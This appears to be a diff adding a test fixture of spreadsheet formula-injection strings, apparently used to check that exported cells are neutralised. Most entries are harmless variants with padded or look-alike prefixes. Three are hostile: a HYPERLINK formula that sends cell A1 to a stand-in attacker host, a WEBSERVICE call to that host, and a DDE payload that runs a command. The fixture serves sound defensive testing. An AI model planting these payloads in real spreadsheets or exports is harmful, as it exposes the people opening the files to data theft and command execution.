@@ -1,0 +1,23 @@
+/** Names as somebody may type them to have a spreadsheet work something out. */
+export const formulas = [
+  '=1+1',
+  '=SUM(A1:A9)',
+  '=HYPERLINK("http://evil.example/?"&A1,"Menu")',
+  '=WEBSERVICE("http://evil.example")',
+  '=cmd|"/c calc"!A1',
+  '+1+1',
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  ' =1+1',
+  '\n=1+1',
+  '=1+1\n=2+2',
+  '"=1+1"',
+  '",=1+1,"',
+  ';=1+1;',
+  '＝1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+]
